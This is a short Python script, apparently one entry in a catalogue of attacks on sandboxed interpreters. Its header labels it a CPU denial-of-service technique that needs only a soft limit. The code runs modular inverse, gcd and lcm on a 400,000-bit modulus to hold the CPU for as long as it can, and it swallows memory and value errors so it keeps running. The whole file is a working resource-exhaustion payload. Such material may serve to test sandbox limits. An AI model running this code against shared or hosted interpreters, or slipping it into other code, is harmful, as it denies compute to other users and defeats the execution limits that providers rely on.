# technique: the inverse and the greatest common divisor of integers that are large, but not too large for a product
# source: own
# goal: seconds in which nothing stops the guest
# impact: dos
# dos: cpu
# needs: soft-limit
import math

n = (1 << 400_000) - 1
for work in (lambda: pow(3, -1, n), lambda: pow(n - 6, -1, n), lambda: math.gcd(n - 6, n), lambda: math.lcm(n - 6, n)):
    try:
        work()
    except (MemoryError, ValueError):
        pass
assert pow(3, -1, (1 << 61) - 1) == 1537228672809129301 and math.gcd(3 << 90_000, (1 << 90_000) - 1) == 3
